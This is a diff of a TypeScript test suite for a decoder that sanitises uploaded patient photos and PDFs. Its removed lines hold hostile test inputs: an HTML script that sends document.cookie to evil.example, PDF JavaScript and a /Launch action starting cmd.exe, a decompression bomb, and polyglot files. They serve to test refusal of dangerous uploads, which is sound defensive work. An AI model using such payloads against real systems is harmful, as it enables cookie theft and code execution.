@@ -9,6 +9,11 @@ import { attachmentLimits } from '#contract/attachments.ts'
 import { streamOf as source } from '#kernel/seal-stream.ts'
 import { createImageDecoder, DecoderUnavailable, type Rendition } from './decode-image.ts'
 import * as corpus from './corpus.fixture.ts'
+import { hostile, html } from './hostile.fixture.ts'
+import { readHeic } from './read-heic.ts'
+import { renderPdf } from './render-pdf.ts'
+import { reasonOf, renderPhoto } from './render-photo.ts'
+import { sniffFile } from './sniff-file.ts'
 
 const root = await mkdtemp(join(tmpdir(), 'kairos-decode-'))
 after(() => rm(root, { recursive: true }))
@@ -45,24 +50,6 @@ const pixel = async (r: Rendition, x: number, y: number) => {
 }
 const isRed = ([r = 0, , b = 0]: number[]) => r > 150 && b < 100
 const isBlue = ([r = 0, , b = 0]: number[]) => b > 150 && r < 100
-
-const cutInHalf = (b: Buffer) => b.subarray(0, b.length >> 1)
-const zip = Buffer.concat([
-  Buffer.from('PK\x03\x04\x14\0\0\0\0\0', 'latin1'),
-  Buffer.alloc(16),
-  Buffer.from('\x01\0\0\0a', 'latin1'),
-  Buffer.from('PK\x05\x06', 'latin1'),
-  Buffer.alloc(18),
-])
-const movingWebp = async () => {
-  const frames = await sharp(Buffer.alloc(64 * 128 * 3, 90).fill(200, 0, 64 * 64 * 3), {
-    raw: { width: 64, height: 128, channels: 3, pageHeight: 64 },
-  })
-    .webp({ loop: 0, delay: [100, 100] })
-    .toBuffer()
-  assert.equal((await sharp(frames).metadata()).pages, 2)
-  return frames
-}
 
 describe("a patient's photo", () => {
   it('keeps its pixels and loses where and with what it was taken', async () => {
@@ -130,51 +117,38 @@ describe("a patient's photo", () => {
   })
 })
 
-describe('refused, and nothing kept', () => {
-  const html = Buffer.from('<html><script>fetch("//evil.example/"+document.cookie)</script></html>')
-  const cases: Record<string, [string, () => Promise<Buffer> | Buffer]> = {
-    'an empty file': ['empty', () => Buffer.alloc(0)],
-    'a file over 25 MB': ['too-large', () => Buffer.alloc(25_000_001)],
-    'a photo cut in the middle': ['truncated', async () => (await corpus.noiseJpeg()).subarray(0, 40_000)],
-    'a PNG cut in the middle': [
-      'truncated',
-      async () =>
-        cutInHalf(
-          await sharp(await corpus.noiseJpeg())
-            .png()
-            .toBuffer(),
-        ),
-    ],
-    'a HEIC cut in the middle': ['truncated', () => corpus.phoneHeic.subarray(0, 640)],
-    'a PNG of 256 million pixels': ['too-many-pixels', corpus.pngBomb],
-    'a picture of no width': ['damaged', () => corpus.pngOf(0, 5, Buffer.alloc(5))],
-    'a picture of one pixel': ['too-small', () => corpus.pngOf(1, 1, Buffer.alloc(2))],
-    'an SVG, whatever it is called': [
-      'svg',
-      () => Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'),
-    ],
-    'a web page': ['not-an-image', () => html],
-    'plain text': ['not-an-image', () => Buffer.from('my rash is red')],
-    'a GIF': [
-      'wrong-type',
-      () =>
-        sharp({ create: { width: 40, height: 40, channels: 3, background: 'red' } })
-          .gif()
-          .toBuffer(),
-    ],
-    'an AVIF': ['wrong-type', () => corpus.twoColours(64, 64).avif({ effort: 0 }).toBuffer()],
-    'a TIFF': ['wrong-type', () => corpus.twoColours(64, 64).tiff().toBuffer()],
-    'a zip': ['wrong-type', () => zip],
-    'a moving WebP': ['animated', movingWebp],
-    'a photo with a web page behind it': ['polyglot', async () => Buffer.concat([await corpus.noiseJpeg(), html])],
-    'a photo with a zip behind it': ['polyglot', async () => Buffer.concat([await corpus.noiseJpeg(), zip])],
-    'a photo with a PDF inside': ['polyglot', async () => Buffer.concat([await corpus.noiseJpeg(), corpus.onePage()])],
+/** What the walled-off process does, here in this one: it costs no process for each file. */
+const opened = async (bytes: Buffer): Promise<{ end: string; kept: readonly Buffer[] }> => {
+  try {
+    const mime = await sniffFile(bytes)
+    const draw = mime === 'image/heic' ? readHeic : mime === 'application/pdf' ? renderPdf : renderPhoto
+    return { end: 'drawn', kept: (await draw(bytes, attachmentLimits)).map((d) => d.bytes) }
+  } catch (e) {
+    return { end: reasonOf(e).code, kept: [] }
   }
-  for (const [title, [code, make]] of Object.entries(cases))
-    it(title, async () => assert.equal(await refusal(await make()), code))
+}
+const decoded = async (bytes: Buffer) => {
+  const result = await decode(bytes)
+  return {
+    end: result.ok ? 'drawn' : result.refusal.code,
+    kept: result.ok ? result.renditions.map((r) => r.bytes) : [],
+  }
+}
+
+describe('refused, or drawn anew: of what strangers send nothing is kept as it came', () => {
+  it('is tried with more than sixty kinds', () => assert.ok(hostile.length >= 60, String(hostile.length)))
+  for (const { title, end, make, child } of hostile)
+    it(`takes no harm from ${title}`, async () => {
+      const bytes = await make()
+      const got = await (child ? decoded : opened)(bytes)
+      assert.equal(got.end, end)
+      for (const kept of got.kept) {
+        assert.deepEqual(await metadataIn(kept), [])
+        assert.equal(kept.equals(bytes), false)
+      }
+    })
 
   it('even if a web page behind a photo were let through, it would not survive the drawing anew', async () => {
-    const { renderPhoto } = await import('./render-photo.ts')
     const drawn = await renderPhoto(Buffer.concat([await corpus.noiseJpeg(), html]), attachmentLimits)
     for (const d of drawn) assert.equal(d.bytes.includes('<script'), false)
   })
@@ -186,10 +160,6 @@ describe('refused, and nothing kept', () => {
 })
 
 describe('a PDF', () => {
-  const js = '<< /S /JavaScript /JS (app.alert(1)) >>'
-  const folded = (inside: string) =>
-    corpus.streamOf('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', corpus.quickly(Buffer.from(`9 0 ${inside}`)))
-
   it('is kept as pictures of its pages; no byte of it is', async () => {
     const { mime, pages, all } = await kept(corpus.onePage())
     assert.equal(mime, 'application/pdf')
@@ -207,48 +177,6 @@ describe('a PDF', () => {
   it('that opens at a page of its own choosing is kept: an opening place is not a script', async () => {
     assert.equal((await kept(corpus.onePage('/OpenAction [3 0 R /Fit]'))).pages.length, 1)
   })
-
-  const cases: Record<string, [string, () => Buffer]> = {
-    'with a script': ['active-pdf', () => corpus.onePage('/OpenAction 5 0 R', [js])],
-    'with a script whose name is spelled in code': [
-      'active-pdf',
-      () => corpus.onePage('/OpenAction 5 0 R', [js.replaceAll('/J', '/#4A')]),
-    ],
-    'with a script folded into an object stream': [
-      'active-pdf',
-      () => corpus.onePage('/OpenAction 9 0 R', [folded(js)]),
-    ],
-    'with an attached file': ['active-pdf', () => corpus.onePage('/Names << /EmbeddedFiles 5 0 R >>', ['<< >>'])],
-    'that starts a program': ['active-pdf', () => corpus.onePage('/OpenAction << /S /Launch /F (cmd.exe) >>')],
-    'that is locked': [
-      'encrypted-pdf',
-      () => corpus.onePage('', ['<< /Filter /Standard /V 1 >>'], undefined, '/Encrypt 5 0 R'),
-    ],
-    'with an object stream that unfolds to 200 MB': [
-      'too-complex',
-      () => corpus.onePage('', [folded(' '.repeat(200_000_000))]),
-    ],
-    'that is cut': ['truncated', () => corpus.onePage().subarray(0, 300)],
-    'that is blank because we cannot draw it': [
-      'unreadable-pdf',
-      () => corpus.onePage('', [], corpus.streamOf('', Buffer.from('%'))),
-    ],
-    'whose form was filled in, since the answers would come out missing': [
-      'unreadable-pdf',
-      () => corpus.onePage('', ['<< /Type /Annot /Subtype /Widget /FT /Tx /V (yes) >>']),
-    ],
-    'with a note laid over its page, which would come out missing': [
-      'unreadable-pdf',
-      () => corpus.onePage('', ['<< /Type /Annot /Subtype /StrikeOut >>']),
-    ],
-    'with a JPEG 2000 picture, which would come out as a hole': [
-      'unreadable-pdf',
-      () => corpus.onePage('', [corpus.streamOf('/Subtype /Image /Filter [/JPXDecode]', Buffer.from('x'))]),
-    ],
-    'that is only called one': ['unreadable-pdf', () => Buffer.from('%PDF-1.4\nnothing here\n%%EOF\n')],
-  }
-  for (const [title, [code, make]] of Object.entries(cases))
-    it(`${title} is refused`, async () => assert.equal(await refusal(make()), code))
 
   it('of more pages than we take is refused before one is drawn', async () => {
     const kids = Array.from({ length: 21 }, (_, i) => `${i + 3} 0 R`)
